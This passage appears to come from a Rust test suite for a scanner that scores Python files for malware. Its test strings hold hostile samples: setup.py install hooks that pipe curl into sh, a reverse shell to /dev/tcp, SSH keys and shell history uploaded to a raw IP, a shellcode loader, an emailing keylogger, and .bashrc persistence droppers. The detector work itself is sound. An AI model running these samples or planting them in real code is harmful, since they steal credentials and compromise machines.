        let s = score("x-1/x/get.py", dropper);
        assert!(has(&s, "combo:fetch-then-start"), "{s:?}");
        assert!(s.malware >= SUSPICIOUS_THRESHOLD, "{s:?}");
        let unpack = "import os\ndef templates(d):\n    os.system('curl -sL https://x.invalid/t.tgz | tar xzf - -C ' + d)\n    os.system(f'cp {d}/a.index {d}/b.index')\n    os.system(f'touch {d}/b.data')\n    return os.listdir(d)\n";
        let s = score("x-1/x/templates.py", unpack);
        assert!(!has(&s, "combo:fetch-then-start"), "{s:?}");
        assert!(s.malware < SUSPICIOUS_THRESHOLD, "{s:?}");
    }

    #[test]
    fn commented_out_everyday_calls_weigh_nothing() {
        let code = "import subprocess\n\ndef build():\n    # subprocess.call(['make', 'docs'])\n    # os.system('rm -rf build')\n    pass\n";
        let s = score("x-1/x/build.py", code);
        assert!(!has(&s, "WH240"), "{s:?}");
        assert_eq!(s.malware, 0.0, "{s:?}");
    }

    #[test]
    fn commented_out_findings_are_not_the_file_s_findings() {
        let analysis = analyze_python(
            "x-1/setup.py",
            b"#import os\n#os.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n",
            &AnalysisOptions::default(),
        );
        assert!(analysis.findings.iter().all(|f| f.rule == "WH240"));
        assert!(!analysis.commented_out.is_empty());
        assert!(
            analysis
                .commented_out
                .iter()
                .all(|f| f.has_tag("commented-out"))
        );
    }

    #[test]
    fn a_command_naming_a_staging_host_while_loading_contacts_it() {
        let code = "import os\nos.system('start https://example-app.onrender.com')\n";
        let s = score("x-1/x/x.py", code);
        assert!(has(&s, "combo:endpoint-contacted"), "{s:?}");
        assert!(s.malware >= SUSPICIOUS_THRESHOLD, "{s:?}");
        // Named in a function that nothing here calls, it is a command someone may run.
        let later = "import os\ndef open_site():\n    os.system('start https://example-app.onrender.com')\n";
        assert!(!has(
            &score("x-1/x/x.py", later),
            "combo:endpoint-contacted"
        ));
    }

    #[test]
    fn a_weak_endpoint_in_a_table_fetched_when_called_is_no_contact() {
        let table = "import urllib.request\nMODELS = {'spm': 'https://tinyurl.com/flores200spm'}\ndef fetch(name):\n    return urllib.request.urlopen(MODELS[name]).read()\n";
        assert!(!has(
            &score("x-1/x/x.py", table),
            "combo:endpoint-contacted"
        ));
        let loading = "import urllib.request\nMODELS = {'spm': 'https://tinyurl.com/flores200spm'}\nurllib.request.urlopen(MODELS['spm']).read()\n";
        assert!(has(
            &score("x-1/x/x.py", loading),
            "combo:endpoint-contacted"
        ));
        let webhook = "import requests\nH = 'https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz'\ndef send(x):\n    requests.post(H, json={'c': x})\n";
        assert!(has(
            &score("x-1/x/x.py", webhook),
            "combo:endpoint-contacted"
        ));
    }

    #[test]
    fn dropper_setup_is_malicious() {
        let code = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://x.invalid/a.sh | sh')\n        install.run(self)\nsetup(name='x', cmdclass={'install': I})\n";
        let s = score("x-1/setup.py", code);
        assert!(s.malware >= 0.9, "{s:?}");
        assert!(has(&s, "combo:hook-with-payload"));
    }

    #[test]
    fn a_function_that_downloads_and_starts_an_executable_is_malicious() {
        let code = "import os, requests\ndef close():\n    url = 'https://example.invalid/files/server.exe'\n    r = requests.get(url)\n    with open('C://k//server.exe', 'wb') as f:\n        f.write(r.content)\n    os.system('start C://k//server.exe')\n";
        let s = score("x-1/x/main.py", code);
        assert!(s.malware >= 0.7, "{s:?}");
        assert!(has(&s, "combo:executable-fetched-and-run"));
        // An installer URL named in one function and a process started in another is not it.
        let apart = "import os, requests\nURL = 'https://example.invalid/files/server.exe'\ndef fetch():\n    return requests.get(URL)\ndef run(cmd):\n    os.system(cmd)\n";
        let s = score("x-1/x/main.py", apart);
        assert!(!has(&s, "combo:executable-fetched-and-run"), "{s:?}");
    }

    #[test]
    fn collected_credentials_uploaded_to_a_raw_ip_are_malicious() {
        let code = "import os, shutil\ndef run():\n    shutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/c/ssh')\n    shutil.copyfile(os.path.expanduser('~/.bash_history'), '/tmp/c/h')\n    os.system('curl -k -F \"file=@/tmp/c.zip\" https://45.13.22.9/upload')\n";
        let s = score("x-1/x/api.py", code);
        assert!(has(&s, "combo:credentials-uploaded"), "{s:?}");
        // A client reading its own SSH config and talking to its server is not that.
        let client = "import os, requests\ndef connect(host):\n    cfg = open(os.path.expanduser('~/.ssh/config')).read()\n    requests.post('https://' + host + '/api', data=cfg)\n";
        let s = score("x-1/x/client.py", client);
        assert!(!has(&s, "combo:credentials-uploaded"), "{s:?}");
    }

    #[test]
    fn a_fetched_script_started_silently_is_a_second_stage() {
        let code = "import subprocess, sys, requests\ndef fetch(url):\n    return requests.get(url).text\ndef run(path, blob):\n    subprocess.Popen([sys.executable, path, blob], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";
        let s = score("pkg/pkg/core.py", code);
        assert!(has(&s, "combo:fetched-second-stage"), "{s:?}");
        assert!(s.malware >= 0.5, "{s:?}");
        // Seen written to disk, the fetched text is a second stage waiting to be started.
        let saved = "import subprocess, sys, requests\ndef fetch(url, path):\n    open(path, 'w').write(requests.get(url).text)\ndef run(path, blob):\n    subprocess.Popen([sys.executable, path, blob], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";
        let s = score("pkg/pkg/core.py", saved);
        assert!(has(&s, "combo:saved-second-stage"), "{s:?}");
        assert!(!has(&s, "combo:fetched-second-stage"), "{s:?}");
        assert!(s.malware >= 0.7, "{s:?}");
        let worker = "import subprocess, sys, requests\ndef fetch(url):\n    return requests.get(url).json()\ndef run(path):\n    subprocess.Popen([sys.executable, path])\n";
        let s = score("pkg/pkg/core.py", worker);
        assert!(!has(&s, "combo:fetched-second-stage"), "{s:?}");
    }

    #[test]
    fn executable_memory_with_a_thread_in_it_is_a_shellcode_loader() {
        let code = "import ctypes, base64\ndef run(blob):\n    buf = base64.b64decode(blob)\n    ptr = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(ptr, buf, len(buf))\n    ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n";
        let s = score("pkg/pkg/core.py", code);
        assert!(has(&s, "combo:shellcode-loader"), "{s:?}");
        assert!(s.malware >= 0.7, "{s:?}");
        // Executable memory alone (a ctypes JIT experiment) is a hint.
        let alone = "import ctypes\ndef page(n):\n    return ctypes.windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)\n";
        let s = score("pkg/pkg/core.py", alone);
        assert!(!has(&s, "combo:shellcode-loader"), "{s:?}");
        assert!(s.malware < 0.4, "{s:?}");
    }

    #[test]
    fn keystrokes_hooked_beside_a_mailer_are_a_keylogger() {
        let code = "import smtplib\nfrom pynput import keyboard\nkeys = []\ndef on_press(key):\n    keys.append(str(key))\ndef collect():\n    with keyboard.Listener(on_press=on_press) as listener:\n        listener.join()\ndef send():\n    with smtplib.SMTP_SSL('smtp.gmail.com', 465) as server:\n        server.login('me@gmail.com', 'pw')\n        server.sendmail('me@gmail.com', 'you@gmail.com', ''.join(keys))\n";
        let s = score("pkg/pkg/core.py", code);
        assert!(has(&s, "combo:keylogger-exfil"), "{s:?}");
        assert!(s.malware >= 0.5, "{s:?}");
        // A hotkey tool hooks the keyboard and acts locally.
        let hotkeys = "from pynput import keyboard\ndef on_press(key):\n    print(key)\ndef run():\n    with keyboard.Listener(on_press=on_press) as listener:\n        listener.join()\n";
        let s = score("pkg/pkg/core.py", hotkeys);
        assert!(!has(&s, "combo:keylogger-exfil"), "{s:?}");
        assert!(s.malware < 0.3, "{s:?}");
    }

    #[test]
    fn a_hidden_pointer_to_the_collection_server_is_a_dead_drop() {
        let code = "import base64, getpass, requests\ndef report(secret):\n    where = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvY2ZnLnR4dA==').decode()\n    server = requests.get(where).text.strip()\n    requests.post(server, json={'u': getpass.getuser(), 's': secret})\n";
        let s = score("pkg/pkg/core.py", code);
        assert!(has(&s, "combo:dead-drop"), "{s:?}");
        assert!(s.malware >= 0.7, "{s:?}");
        // Following a `next` link in plain sight is pagination.
        let paging = "import requests\ndef pages(url):\n    while url:\n        page = requests.get(url).json()\n        yield page\n        url = page['next']\n        requests.get(url)\n";
        let s = score("pkg/pkg/core.py", paging);
        assert!(!has(&s, "combo:dead-drop"), "{s:?}");
        assert!(s.malware < 0.4, "{s:?}");
    }

    #[test]
    fn code_fetched_from_a_paste_site_and_run_elsewhere_in_the_file_is_staged() {
        let code = "import subprocess, requests\ndef fetch():\n    return requests.get('https://pastebin.com/raw/abcd').text\ndef run():\n    subprocess.call(['python', '-c', fetch()])\n";
        let s = score("pkg/pkg/core.py", code);
        assert!(has(&s, "combo:staged-flow"), "{s:?}");
        assert!(s.malware >= 0.7, "{s:?}");
        let vendor = "import subprocess, requests\ndef fetch():\n    return requests.get('https://api.vendor.example/v1/cmd').text\ndef run():\n    subprocess.call(['tool', fetch()])\n";
        let s = score("pkg/pkg/core.py", vendor);
        assert!(!has(&s, "combo:staged-flow"), "{s:?}");
    }

    #[test]
    fn several_builtins_fetched_by_spelled_names_while_loading_are_a_hidden_loader() {
        let code = "_ = ''.join\ng = getattr(globals()['__builtins__'], _([chr(c) for c in [103, 101, 116, 97, 116, 116, 114]]))\ni = getattr(globals()['__builtins__'], _([chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]]))\n";
        let s = score("pkg/pkg/inset.py", code);
        assert!(has(&s, "combo:spelled-builtins"), "{s:?}");
        assert!(s.malware >= 0.7, "{s:?}");
        let one = "_ = ''.join\nc = getattr(globals()['__builtins__'], _([chr(c) for c in [99, 104, 114]]))\n";
        let s = score("pkg/pkg/inset.py", one);
        assert!(!has(&s, "combo:spelled-builtins"), "{s:?}");
    }

    #[test]
    fn a_dropper_planted_in_a_shell_profile_is_malicious() {
        let code = "import os\ndef colors():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('wget http://x.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n";
        let s = score("pkg/colors.py", code);
        assert!(has(&s, "combo:persistence-dropper"), "{s:?}");
        assert!(s.malware >= 0.7, "{s:?}");
        let path_only = "import os\ndef setup_path():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('export PATH=$HOME/.local/bin:$PATH')\n";
        let s = score("pkg/colors.py", path_only);
        assert!(!has(&s, "combo:persistence-dropper"), "{s:?}");
        assert!(s.malware < 0.7, "{s:?}");
    }

    #[test]
    fn a_function_running_what_it_fetched_from_a_paste_site_is_malicious() {
        let code = "import os, requests\ndef update():\n    r = requests.get('https://pastebin.com/raw/abcd1234')\n    open('c.py', 'w').write(r.text)\n    os.system('python c.py')\n";
        let s = score("pkg/pkg/up.py", code);
        assert!(has(&s, "combo:staged-and-run"), "{s:?}");
        assert!(s.malware >= 0.7, "{s:?}");
        let apart = "import os, requests\ndef notes():\n    return requests.get('https://pastebin.com/raw/abcd1234').text\ndef build():\n    os.system('make')\n";
        let s = score("pkg/pkg/up.py", apart);
        assert!(!has(&s, "combo:staged-and-run"), "{s:?}");
    }

    #[test]
    fn a_fetched_binary_added_to_the_shell_profile_is_malicious() {
        let code = "import os, stat, urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://198.51.100.7/out').read()\n    open('.drv', 'wb').write(data)\n    os.chmod('.drv', stat.S_IEXEC)\n    open(os.path.expanduser('~/.bashrc'), 'a').write('~/.drv &')\n";
        let s = score("pkg/pkg/pr.py", code);
        assert!(has(&s, "combo:persistence-dropper"), "{s:?}");
        assert!(s.malware >= 0.7, "{s:?}");
    }

    #[test]
    fn a_file_host_named_in_a_file_that_contacts_nothing_is_a_hint() {
        let table = "class Extractor:\n    _TESTS = [{'url': 'https://gofile.io/d/abc'}]\n";
        let s = score("pkg/pkg/extractor.py", table);
        let endpoint = s.contributions.iter().find(|c| c.rule == "WH160").unwrap();
        assert!(endpoint.weight <= UNCONTACTED_ENDPOINT_WEIGHT, "{s:?}");
        assert!(endpoint.reason.contains("no network call"), "{s:?}");
        let fetched = "import requests\nURL = 'https://gofile.io/d/abc'\ndef get():\n    return requests.get(URL).content\n";
        let s = score("pkg/pkg/extractor.py", fetched);
        let endpoint = s.contributions.iter().find(|c| c.rule == "WH160").unwrap();
        assert!(endpoint.weight > UNCONTACTED_ENDPOINT_WEIGHT, "{s:?}");
        // A bot URL carrying its token weighs what it weighs wherever it is.
        let bot = "TOKEN_URL = 'https://api.telegram.org/bot1234567890:AAGMY2trwvCUjgZRwIlNNdJhDXXThwYe9Tw/sendMessage'\n";
        let s = score("pkg/pkg/config.py", bot);
        let endpoint = s.contributions.iter().find(|c| c.rule == "WH160").unwrap();
        assert!(endpoint.weight >= UNCONTACTED_KEPT_FROM, "{s:?}");
    }

    #[test]
    fn ordinary_library_code_is_benign() {
        let code = "import subprocess, requests, os\n\ndef version():\n    return subprocess.check_output(['git', 'describe'])\n\ndef fetch(url):\n    return requests.get(url, timeout=os.environ.get('TIMEOUT'))\n";
        let s = score("x-1/x/util.py", code);
        assert!(s.malware < 0.15, "{s:?}");
        assert!(s.security_risk > s.malware);
    }

    #[test]
    fn typical_setup_py_is_benign() {
        let code = "import os, re\nfrom setuptools import setup, find_packages\nfrom setuptools.command.build_ext import build_ext\nhere = os.path.abspath(os.path.dirname(__file__))\nexec(open(os.path.join(here, 'x', 'version.py')).read())\nclass B(build_ext):\n    def run(self):\n        build_ext.run(self)\nsetup(name='x', packages=find_packages(), cmdclass={'build_ext': B})\n";
        let s = score("x-1/setup.py", code);
        assert!(s.malware < 0.15, "{s:?}");
    }

    #[test]
    fn a_spent_time_budget_lowers_confidence() {
        let code = "x = 1\n".repeat(2_000);
        let options = AnalysisOptions {
            max_file_time: std::time::Duration::ZERO,
            ..AnalysisOptions::default()
        };
        let cut = score_file(&analyze_python("x/m.py", code.as_bytes(), &options));
        let full = score("x/m.py", &code);
        assert!(
            cut.confidence <= full.confidence - 0.3 + 1e-9,
            "{cut:?} {full:?}"
        );
    }

    #[test]
    fn scores_stay_in_range() {
        let s = score(
            "x/setup.py",
            "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\nimport socket;socket.socket().connect(('1.2.3.4', 1))\n",
        );
        for v in [s.malware, s.security_risk, s.obfuscated, s.confidence] {
            assert!((0.0..=1.0).contains(&v));
        }
    }
}
